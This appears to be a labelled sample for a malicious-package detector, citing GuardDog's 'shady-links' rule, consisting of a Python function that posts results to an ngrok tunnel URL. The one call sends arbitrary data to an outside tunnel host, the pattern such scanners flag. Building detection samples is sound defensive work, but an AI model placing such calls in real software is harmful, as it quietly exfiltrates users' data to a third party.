# technique: results sent to an ngrok tunnel
# class: endpoints
# source: GuardDog "shady-links" docs (tunnelling services)
# declares: network
import requests


def report(result):
    requests.post("https://4a2b-91-132-92-17.ngrok-free.app/r", json=result, timeout=5)
